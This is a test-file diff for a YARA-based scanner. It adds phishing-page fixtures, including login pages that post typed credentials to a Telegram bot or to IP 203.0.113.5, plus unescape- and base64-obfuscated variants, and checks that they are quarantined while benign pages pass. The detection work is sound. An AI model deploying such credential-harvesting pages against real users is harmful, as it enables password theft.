@@ -3,6 +3,7 @@ archive case, lying names, macros with real OLE/OOXML structure, limits, YARA re
 
 from __future__ import annotations
 
+import base64
 import time
 import tracemalloc
 from pathlib import Path
@@ -341,3 +342,63 @@ def test_a_bad_rule_file_is_a_clear_start_up_error(tmp_path: Path) -> None:
         YaraScanner([str(tmp_path)], timeout_seconds=5)
     with pytest.raises(YaraError, match="does not exist"):
         YaraScanner([str(tmp_path / "missing")], timeout_seconds=5)
+
+
+# Credential-phishing pages (rules/phishing.yar) -------------------------------------------------
+_LOGIN = (b'<html><head><meta charset="utf-8"><title>Thu dien tu cong vu</title></head><body>'
+          b'<h2>Dang nhap de xem tai lieu</h2><input id="e" type="email">'
+          b'<input id="p" type="password"><button onclick="go()">Xem</button>')
+_PHISH_PAGES = {
+    # No lure phrase from any list, sent by script to a Telegram bot: passed until 2026-12-02.
+    "telegram-bot": _LOGIN + b"<script>function go(){fetch('https://api.telegram.org/bot1:x/"
+                             b"sendMessage?chat_id=1&text='+e.value+':'+p.value)}</script>"
+                             b"</body></html>",
+    "xhr": _LOGIN + b"<script>function go(){var x=new XMLHttpRequest();x.open('POST',"
+                    b"'https://203.0.113.5/n.php');x.send(e.value+p.value)}</script></body></html>",
+    "form": b'<html><body><form action="https://203.0.113.5/a.php" method="post">'
+            b'<input name="u"><input type="password" name="p"></form></body></html>',
+}
+
+
+def _obfuscated(page: bytes, how: str) -> bytes:
+    if how == "unescape":
+        call = b"unescape('" + b"".join(b"%%%02X" % c for c in page) + b"')"
+    else:
+        call = b"atob('" + base64.b64encode(page) + b"')"
+    return b"<html><body><script>document.write(" + call + b");</script></body></html>"
+
+
+@pytest.mark.parametrize("name", sorted(_PHISH_PAGES))
+def test_a_login_page_that_sends_the_password_out_is_quarantined(engine: Engine,
+                                                                 name: str) -> None:
+    v = judge(engine, one("xem-tai-lieu.html", _PHISH_PAGES[name], "text/html"))
+    [hit] = [f for f in v.findings if f.rule == "HUE-11.5/yara"]
+    assert "Phishing_Credential_Form" in hit.detail and v.action is Action.QUARANTINE
+
+
+@pytest.mark.parametrize("how", ["unescape", "atob"])
+def test_a_page_that_writes_itself_out_of_an_encoded_string_is_quarantined(
+        engine: Engine, how: str) -> None:
+    page = _obfuscated(_PHISH_PAGES["telegram-bot"], how)
+    assert b"password" not in page
+    v = judge(engine, one("hoa-don.htm", page, "text/html"))
+    hits = [f.detail for f in v.findings if f.rule == "HUE-11.5/yara"]
+    assert any("Phishing_Obfuscated_Page" in d for d in hits), v.findings
+    assert v.action is Action.QUARANTINE
+
+
+def test_pages_with_a_search_form_a_password_field_alone_or_a_request_alone_pass(
+        engine: Engine) -> None:
+    pages = [
+        b'<html><body><form action="https://hue.gov.vn/tim-kiem"><input name="q"></form>'
+        b"</body></html>",
+        b'<html><body><p>Huong dan doi mat khau:</p><input type="password" disabled>'
+        b"</body></html>",
+        b"<html><body><script>var x=new XMLHttpRequest();x.open('GET','/lich-hop.json')"
+        b"</script></body></html>",
+        b"<html><body><script>document.write('<p>Ngay ' + new Date() + '</p>')</script>"
+        b"</body></html>",
+    ]
+    for page in pages:
+        v = judge(engine, one("trang.html", page, "text/html"))
+        assert v.action is Action.ACCEPT, (page, v.findings)
